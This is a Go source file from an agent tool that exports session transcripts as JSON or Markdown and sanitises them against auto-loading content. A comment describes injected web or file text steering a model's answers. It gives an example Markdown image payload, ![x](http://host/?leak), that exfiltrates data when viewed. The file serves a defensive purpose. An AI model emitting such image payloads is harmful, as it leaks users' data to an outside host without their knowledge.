package sessions

import (
	"cmp"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/agentty/agentty/engine"
)

// Export writes a session as a Markdown transcript ("md") or as JSON
// ("json": meta, history, memory and every event).
func (s *Store) Export(id, format string, w io.Writer) error {
	l, err := s.Load(id)
	if err != nil && l == nil {
		return err
	}
	switch format {
	case "json":
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		return enc.Encode(struct {
			Meta    Meta             `json:"meta"`
			History []engine.Message `json:"history"`
			Memory  []engine.Fact    `json:"memory"`
			Events  []engine.Event   `json:"events"`
		}{l.Meta, l.Session.History, l.Session.Memory(), l.Events})
	case "md", "markdown":
		_, err := io.WriteString(w, Markdown(l))
		return err
	}
	return fmt.Errorf("sessions: export: unknown format %q (md or json)", format)
}

// Markdown renders a loaded session as a transcript.
func Markdown(l *Loaded) string {
	var b strings.Builder
	fmt.Fprintf(&b, "# %s\n\n", orUntitled(l.Meta.Title))
	cost := l.Meta.Usage.CostString()
	if !strings.HasPrefix(cost, "cost ") { // "cost unknown" says it already
		cost = "cost " + cost
	}
	fmt.Fprintf(&b, "Session `%s` · model %s · %d %s · %d %s · %s · created %s\n\n", l.Meta.ID, orDash(l.Meta.Model), l.Meta.Runs, engine.Plural(l.Meta.Runs, "run"), l.Meta.LastStep, engine.Plural(l.Meta.LastStep, "step"), cost, l.Meta.Created.Format(time.DateTime))
	for _, ev := range l.Events {
		if ev.ParentRun != "" {
			subRunMarkdown(&b, ev)
			continue
		}
		switch d := ev.Data.(type) {
		case *engine.RunStarted:
			fmt.Fprintf(&b, "## You\n\n%s\n\n", d.Task)
		case *engine.Handoff: // a paragraph of its own: the new agent's heading follows
			fmt.Fprintf(&b, "- handed off to **%s**\n\n", d.To)
		case *engine.ContextCompacted:
			fmt.Fprintf(&b, "- context compacted: the first %d messages are summarised for the model (%d → %d tokens); they stay here in full\n", d.Upto, d.TokensBefore, d.TokensAfter)
		case *engine.ModelChanged:
			fmt.Fprintf(&b, "- model changed to %s\n", d.Model)
		case *engine.Decided:
			if len(d.ToolCalls) == 0 {
				fmt.Fprintf(&b, "## %s\n\n%s\n\n", cmp.Or(ev.Agent, "agentty"), inert(d.Text))
				continue
			}
			if d.Text != "" { // said with its calls: the agent's words too, under its name
				fmt.Fprintf(&b, "## %s\n\n%s\n\n", cmp.Or(ev.Agent, "agentty"), inert(d.Text))
			}
		case *engine.ToolFinished:
			fmt.Fprintf(&b, "- step %d: %s → %s: %s\n", ev.Step, codeSpan(d.Name), d.Status, codeSpan(engine.OneLine(d.Result, 200)))
		case *engine.StepFinished:
			if d.ToolCalls > 0 {
				b.WriteString("\n")
			}
		case *engine.MemoryChanged:
			if d.Op == engine.MemorySet {
				fmt.Fprintf(&b, "- memory: %s = %s\n", codeSpan(d.Key), codeSpan(engine.OneLine(d.Value, 400)))
			} else {
				fmt.Fprintf(&b, "- memory: forgot %s\n", codeSpan(d.Key))
			}
		case *engine.RunFinished:
			if d.StopReason != engine.StopAnswered {
				fmt.Fprintf(&b, "_Run stopped: %s._ %s\n\n", d.StopReason, codeSpan(engine.OneLine(d.Error, 400)))
			}
		}
	}
	if l.Meta.Interrupted {
		b.WriteString("_The last run was interrupted; `agentty run --session " + l.Meta.ID + " --continue` finishes it._\n")
	}
	return b.String()
}

// subRunMarkdown renders an event of a sub-run as a quoted line, one level
// of quote per level of delegation, each naming the agent: parallel
// sub-runs' lines interleave as they happened.
func subRunMarkdown(b *strings.Builder, ev engine.Event) {
	q := strings.Repeat("> ", strings.Count(ev.Run, "/")/2)
	switch d := ev.Data.(type) {
	case *engine.RunStarted:
		fmt.Fprintf(b, "%s**%s** was asked (%s): %s\n%s\n", q, inert(ev.Agent), codeSpan(ev.Run), inert(engine.OneLine(d.Task, 200)), q)
	case *engine.Decided:
		if len(d.ToolCalls) == 0 {
			fmt.Fprintf(b, "%s**%s** answered: %s\n%s\n", q, ev.Agent, inert(engine.OneLine(d.Text, 400)), q)
		}
	case *engine.ToolFinished:
		fmt.Fprintf(b, "%s- %s, step %d: %s → %s: %s\n", q, ev.Agent, ev.Step, codeSpan(d.Name), d.Status, codeSpan(engine.OneLine(d.Result, 200)))
	case *engine.MemoryChanged:
		fmt.Fprintf(b, "%s- %s, memory: %s %s\n", q, inert(ev.Agent), d.Op, codeSpan(d.Key))
	case *engine.Handoff:
		fmt.Fprintf(b, "%s- %s handed off to **%s**\n", q, ev.Agent, d.To)
	case *engine.RunFinished:
		if d.StopReason != engine.StopAnswered {
			fmt.Fprintf(b, "%s_%s stopped: %s._ %s\n%s\n", q, ev.Agent, d.StopReason, codeSpan(engine.OneLine(d.Error, 400)), q)
		}
	}
}

// The export is read in Markdown viewers, and much of it is someone
// else's text: tool results are files and pages of the workspace or the
// web, answers are a model's (which such text may steer). A viewer loads
// an image, or raw HTML's, as it opens the file, so a result holding
// ![x](http://host/?leak) would call out. Results, memory and errors are
// code spans (shown as they are, nothing loaded); answers keep their
// Markdown, with images and raw HTML made text.

// codeSpan returns s as an inline code span: fenced with more backticks
// than any run in s, so that nothing in it ends the span.
func codeSpan(s string) string {
	longest, run := 0, 0
	for _, c := range s {
		if c == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	fence := strings.Repeat("`", longest+1)
	if strings.HasPrefix(s, "`") || strings.HasSuffix(s, "`") || s == "" {
		s = " " + s + " "
	}
	return fence + s + fence
}

// inert returns Markdown with nothing a viewer would load by itself: an
// image (![…]) becomes text, and raw HTML (<img …>, <iframe …>) is
// escaped. Links stay links: following one takes a click. Code (fenced
// blocks and inline spans) is left as it is: a viewer shows it as text,
// and escapes there would show as written.
func inert(s string) string {
	if !strings.Contains(s, "![") && !strings.Contains(s, "<") {
		return s
	}
	var b strings.Builder
	fenced := false
	for i, line := range strings.Split(s, "\n") {
		if i > 0 {
			b.WriteByte('\n')
		}
		if t := strings.TrimSpace(line); strings.HasPrefix(t, "```") || strings.HasPrefix(t, "~~~") {
			fenced = !fenced
			b.WriteString(line)
			continue
		}
		if fenced {
			b.WriteString(line)
			continue
		}
		inertLine(&b, line)
	}
	return b.String()
}

// inertLine writes line made inert outside its inline code spans.
func inertLine(b *strings.Builder, line string) {
	for line != "" {
		start := strings.IndexByte(line, '`')
		if start < 0 {
			b.WriteString(inertReplacer.Replace(line))
			return
		}
		b.WriteString(inertReplacer.Replace(line[:start]))
		n := len(line[start:]) - len(strings.TrimLeft(line[start:], "`"))
		fence := line[start : start+n]
		end := strings.Index(line[start+n:], fence)
		if end < 0 { // no closing run: not a code span
			b.WriteString(fence)
			line = line[start+n:]
			continue
		}
		b.WriteString(line[start : start+n+end+n])
		line = line[start+n+end+n:]
	}
}

var inertReplacer = strings.NewReplacer("![", `!\[`, "<", "&lt;")

func orUntitled(s string) string {
	if s == "" {
		return "(untitled)"
	}
	return s
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}
